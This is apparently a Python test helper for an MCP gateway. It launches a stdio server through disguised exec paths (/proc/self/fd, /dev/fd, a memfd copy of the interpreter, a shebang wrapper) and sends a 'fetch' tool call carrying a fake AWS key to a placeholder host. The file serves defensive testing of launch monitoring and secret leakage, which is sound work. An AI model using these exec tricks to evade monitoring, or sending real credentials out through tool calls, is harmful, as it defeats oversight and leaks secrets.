#!/usr/bin/env python3
"""An agent that starts its stdio MCP server in unusual ways, for the gateway's stdio tests:
each is a way a server could be started without its path or arguments looking like the
configured ones at the moment of the exec.

    exotic_exec.py MODE PYTHON SERVER_SCRIPT DESCRIPTION_FILE [WORKDIR]

MODE:
  procfd    execve("/proc/self/fd/N") of the interpreter opened on N
  devfd     execve("/dev/fd/N"), the same through /dev/fd
  memfd     a copy of the interpreter in a memfd, executed through /proc/self/fd/N
  shebang   a script in WORKDIR whose #! line runs the server
  relative  the server script given relative to the working directory

It sends initialize, notifications/initialized and one tools/call of `fetch` with a fake
AWS key in its url, and prints the text of the call's result (or its error) on stdout.
"""

import json
import os
import sys

mode, python, script, desc = sys.argv[1:5]
work = sys.argv[5] if len(sys.argv) > 5 else "/tmp"

argv = [python, script, desc]
path = python
keep = []
if mode in ("procfd", "devfd"):
    fd = os.open(python, os.O_RDONLY)
    keep.append(fd)
    path = f"/proc/self/fd/{fd}" if mode == "procfd" else f"/dev/fd/{fd}"
elif mode == "memfd":
    fd = os.memfd_create("interp", 0)
    with open(python, "rb") as src:
        os.write(fd, src.read())
    keep.append(fd)
    path = f"/proc/self/fd/{fd}"
elif mode == "shebang":
    wrapper = os.path.join(work, "run-server")
    with open(wrapper, "w") as f:
        f.write(f"#!{python} {script}\n")
    os.chmod(wrapper, 0o755)
    path, argv = wrapper, [wrapper, desc]
elif mode == "relative":
    os.chdir(os.path.dirname(script))
    argv = [python, os.path.basename(script), desc]
else:
    sys.exit(f"unknown mode {mode}")

to_r, to_w = os.pipe()
from_r, from_w = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(to_r, 0)
    os.dup2(from_w, 1)
    for f in keep:
        os.set_inheritable(f, True)
    try:
        os.execv(path, argv)
    except OSError as e:
        os.write(2, f"exec failed: {e}\n".encode())
        os._exit(127)
os.close(to_r)
os.close(from_w)
w = os.fdopen(to_w, "w")
r = os.fdopen(from_r, "r")


def send(msg):
    w.write(json.dumps(msg) + "\n")
    w.flush()


def answer(id_):
    for line in r:
        m = json.loads(line)
        if m.get("id") == id_:
            return m
    sys.exit("the server closed its stdout")


send({"jsonrpc": "2.0", "id": 1, "method": "initialize",
      "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                 "clientInfo": {"name": "exotic", "version": "1"}}})
answer(1)
send({"jsonrpc": "2.0", "method": "notifications/initialized"})
send({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
      "params": {"name": "fetch", "arguments": {"url": "https://x/?k=AKIAIOSFODNN7EXAMPLE"}}})
m = answer(2)
w.close()
os.waitpid(pid, 0)
if "result" in m:
    print(m["result"]["content"][0]["text"])
else:
    print("error", m["error"]["code"], m["error"]["message"])
